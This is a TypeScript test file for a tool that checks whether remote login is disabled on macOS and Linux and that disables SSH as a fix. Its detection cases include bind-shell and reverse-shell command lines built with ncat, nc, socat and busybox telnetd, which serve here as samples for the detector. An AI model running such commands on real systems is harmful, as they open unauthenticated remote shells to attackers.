import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { createFakeSystem } from '../fake-system.ts';
import { judgeReading } from '../judge-reading.ts';
import { createSampleLinux } from '../linux/sample-system.ts';
import { createFakeMac } from '../macos/fake-mac.ts';
import { readSample } from '../samples.ts';
import { remoteLoginOff } from './definition.ts';
import { linuxRemoteLogin } from './linux.ts';
import { linuxRemoteLoginFix } from './linux-fix.ts';
import { parseListeners } from './listening-ports.ts';
import { startsLogin } from './login-programs.ts';
import { macosRemoteLogin } from './macos.ts';

const now = new Date('2026-11-24T09:00:00Z');
const LOADED = 'system/com.openssh.sshd = {\n\tactive count = 0\n\tstate = waiting\n}\n';

async function onMac(list: string, print: string | { code: number } = { code: 113 }) {
  const system = createFakeMac({
    commands: { 'launchctl print-disabled system': list, 'launchctl print system/com.openssh.sshd': print },
  });
  return judgeReading(remoteLoginOff, await macosRemoteLogin.read(system), {}, { operatingSystem: 'macos', now });
}

const MAC_SAMPLES: Readonly<Record<string, string>> = {
  disabled: 'passed',
  'disabled-macos-12': 'passed',
  enabled: 'failed',
  'enabled-macos-12': 'failed',
  'not-named': 'unknown',
  'other-word': 'unknown',
  twice: 'unknown',
};

test.each(Object.entries(MAC_SAMPLES))('macOS, %s: %s', async (name, state) => {
  expect((await onMac(readSample(import.meta.dirname, `${name}.txt`, 'macos'))).state).toBe(state);
});

test('no sample of macOS is left out', () => {
  const files = readdirSync(join(import.meta.dirname, 'samples/macos')).filter((name) => name.endsWith('.txt'));
  expect(files.toSorted()).toEqual(
    Object.keys(MAC_SAMPLES)
      .map((name) => `${name}.txt`)
      .toSorted(),
  );
});

test('macOS: what is loaded is on, whatever the list says; an answer that is cut or refused passes nothing', async () => {
  const disabled = readSample(import.meta.dirname, 'disabled.txt', 'macos');
  expect((await onMac(disabled, LOADED)).state).toBe('failed');
  expect((await onMac(disabled, { code: 1 })).state).toBe('unknown');
  expect((await onMac(disabled, 'something else')).state).toBe('unknown');
  for (let at = 0; at < disabled.indexOf('}'); at += 1) {
    expect((await onMac(disabled.slice(0, at))).state).not.toBe('passed');
  }
});

const onLinux = async (system: Parameters<typeof linuxRemoteLogin.read>[0]) =>
  judgeReading(remoteLoginOff, await linuxRemoteLogin.read(system), {}, { operatingSystem: 'linux', now });

test('Linux: a server that nothing started is on, and is not for Workplace to stop', async () => {
  const sample = createSampleLinux(import.meta.dirname, 'not-installed');
  const ps = { code: 0, stdout: '  1 0 systemd\n 800 1001 sshd\n 901 1001 ps\n', stderr: '' };
  const stray: typeof sample = {
    ...sample,
    run: async (command) => (command.tool === 'ps' ? { ok: true, value: ps } : sample.run(command)),
  };
  const judged = await onLinux(stray);
  expect([judged.state, judged.fix]).toEqual(['failed', undefined]);
  // A list without the tool that made it was cut before its end.
  const cut = { ...ps, stdout: '  1 0 systemd\n' };
  const short: typeof sample = {
    ...sample,
    run: async (command) => (command.tool === 'ps' ? { ok: true, value: cut } : sample.run(command)),
  };
  expect((await onLinux(short)).state).toBe('unknown');
});

test('Linux: without systemd it is not known', async () => {
  expect((await onLinux(createFakeSystem({ commands: {} }))).state).toBe('unknown');
});

const LISTED = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
const listening = (address: string, port: string, state = '0A') =>
  `   0: ${address}:${port} 00000000:0000 ${state} 00000000:00000000 00:00000000 00000000  1001        0 1605 1 0 100 0 0 10 0\n`;

test('ports: those that listen beyond this computer, of a list that is whole', () => {
  const portsOf = (rows: string) => parseListeners(LISTED + rows)?.map(({ port }) => port) ?? null;
  expect(portsOf(listening('00000000', '0016'))).toEqual([22]);
  expect(portsOf(listening('0'.repeat(32), '170C'))).toEqual([5900]);
  expect(portsOf(listening('0A01A8C0', '0D3D'))).toEqual([3389]);
  expect(portsOf(listening('0100007F', '0016'))).toEqual([]);
  expect(portsOf(listening('00000000000000000000000001000000', '0016'))).toEqual([]);
  expect(portsOf(listening('0000000000000000FFFF00000100007F', '0016'))).toEqual([]);
  expect(portsOf(listening('00000000', '0016', '01'))).toEqual([]);
  expect(portsOf(listening('00000000', '0016').trimEnd())).toBeNull();
  expect(portsOf('something else\n')).toBeNull();
  expect(parseListeners('')).toBeNull();
});

const command = (path: string, words = path) => `{ path=${path} ; argv[]=${words} ; ignore_errors=no ; pid=0 }`;

test.each([
  [command('/usr/sbin/sshd', '/usr/sbin/sshd -i'), true],
  [command('/usr/sbin/tcpd', '/usr/sbin/tcpd /usr/sbin/in.telnetd'), true],
  [command('/bin/sh', "/bin/sh -c 'sleep 1; exec /usr/bin/x11vnc -forever'"), true],
  [`${command('/bin/true')}\n${command('/usr/sbin/xrdp')}`, true],
  [command('/bin/sh', '/bin/sh /opt/serve'), null],
  [command('/usr/bin/ncat', '/usr/bin/ncat -lk -p 4444 -e /bin/bash'), true],
  [command('/bin/busybox', 'busybox telnetd -F -p 2323 -l /bin/sh'), true],
  [command('/usr/bin/toybox', 'toybox telnetd -F'), true],
  [command('/bin/busybox', 'busybox inetd -f /etc/inetd.conf'), null],
  [command('/usr/bin/tcpserver', 'tcpserver 0 2323 /bin/date'), null],
  [command('/bin/busybox', 'busybox httpd -f'), false],
  [command('/bin/busybox', 'busybox sh /opt/own/answer'), null],
  [command('/usr/bin/nc', '/usr/bin/nc -lvp4444 -c /bin/sh'), true],
  [command('/usr/bin/ncat', '/usr/bin/ncat --listen 4444 --sh-exec=/bin/login'), true],
  [command('/usr/bin/socat', '/usr/bin/socat TCP-LISTEN:2323,fork EXEC:/bin/login,pty'), true],
  [command('/bin/sh', "/bin/sh -c 'socat tcp4-l:23 system:bash'"), true],
  [command('/usr/bin/socat', '/usr/bin/socat TCP-LISTEN:631,fork EXEC:/opt/print'), null],
  [command('/usr/bin/socat', '/usr/bin/socat TCP-LISTEN:2323,bind=127.0.0.1,fork EXEC:/bin/login'), null],
  [command('/usr/bin/socat', '/usr/bin/socat UNIX-LISTEN:/run/x EXEC:/bin/login'), null],
  [command('/usr/bin/logger', '/usr/bin/logger sshd'), false],
  [command('/usr/bin/ssh-keygen', '/usr/bin/ssh-keygen -A'), false],
  ['', false],
])('the command %s: %s', (shown, expected) => {
  expect(startsLogin(shown)).toBe(expected);
});

const PORTS = { 14500: '38A4', 6007: '1777', 4444: '115C', 6010: '177A' };
/** One process of nadia's with these words, next to a port of hers. */
async function withProcess(name: string, words: string, port: keyof typeof PORTS, address = '00000000') {
  const sample = createSampleLinux(import.meta.dirname, 'not-installed');
  sample.files.set('/proc/net/tcp', LISTED + listening(address, PORTS[port]));
  sample.files.set('/proc/800/cmdline', `${words.replaceAll(' ', '\0')}\0`);
  const ps = { code: 0, stdout: `  1 0 systemd\n 800 1001 ${name}\n 901 1001 ps\n`, stderr: '' };
  const run: typeof sample.run = async (one) => (one.tool === 'ps' ? { ok: true, value: ps } : sample.run(one));
  const { state, items = [] } = await onLinux({ ...sample, run });
  return [state, ...items.flatMap(({ value }) => (typeof value === 'string' ? value : []))].join(' ');
}

test.each<[name: string, words: string, port: keyof typeof PORTS, expected: string]>([
  ['xpra', '/usr/bin/python3 /usr/bin/xpra start :20 --bind-tcp=0.0.0.0:14500', 14500, 'failed xpra (TCP 14500)'],
  ['xpra', '/usr/bin/python3 /usr/bin/xpra attach tcp://far:14500', 14500, 'passed'],
  ['Xvfb', 'Xvfb :7 -listen tcp -ac', 6007, 'failed Xvfb (TCP 6007)'],
  ['Xorg', '/usr/lib/xorg/Xorg vt2 -listen tcp', 6010, 'failed Xorg (TCP 6010)'],
  ['Xorg', '/usr/lib/xorg/Xorg :0 -nolisten tcp', 6007, 'passed'],
  ['ncat', 'ncat -lk -p 4444 -e /bin/bash', 4444, 'failed ncat'],
  ['busybox', 'busybox telnetd -F -p 4444 -l /bin/sh', 4444, 'failed telnetd'],
  ['busybox', 'busybox httpd -f -p 4444', 4444, 'passed'],
  ['socat', 'socat TCP-LISTEN:4444 EXEC:/bin/sh', 4444, 'failed socat'],
  ['socat', 'socat TCP-LISTEN:4444 OPEN:/tmp/file', 4444, 'passed'],
  ['ncat', 'ncat far 4444 -e /bin/bash', 4444, 'passed'],
])(
  'a program that no unit started, %s with %j: open by its words and its port',
  async (name, words, port, expected) => {
    expect(await withProcess(name, words, port)).toBe(expected);
    expect(await withProcess(name, words, port, '0100007F')).toBe('passed');
  },
);

/** A computer with SSH, whose units become those of another when a command turns them off. */
function fixedSystem(after: string, code: number) {
  const before = createSampleLinux(import.meta.dirname, 'debian-on');
  const later = createSampleLinux(import.meta.dirname, after);
  const ran: string[] = [];
  const system: typeof before = {
    ...before,
    readFile: async (path) => (ran.length > 0 ? later : before).readFile(path),
    run: async (one) => {
      if (one.arguments[0] !== 'disable') return (ran.length > 0 ? later : before).run(one);
      ran.push(one.arguments.join(' '));
      return { ok: true, value: { code, stdout: '', stderr: '' } };
    },
  };
  return { system, ran };
}

test.each([0, 1])(
  'the fix goes by what is so afterwards, not by the code %i, and names what it turned off',
  async (code) => {
    const { system, ran } = fixedSystem('installed-and-off', code);
    const fixed = await linuxRemoteLoginFix.apply(system, {});
    expect(ran).toEqual(['disable --now -- ssh.service']);
    expect(fixed).toMatchObject({
      ok: true,
      value: { undo: 'To take it back, run as an administrator: systemctl enable --now ssh.service' },
    });
  },
);

test.each([0, 1])('a fix that changes nothing is told as such, with the code %i', async (code) => {
  expect((await linuxRemoteLoginFix.apply(fixedSystem('debian-on', code).system, {})).ok).toBe(false);
  expect((await linuxRemoteLoginFix.apply(fixedSystem('others-hidden', code).system, {})).ok).toBe(false);
});
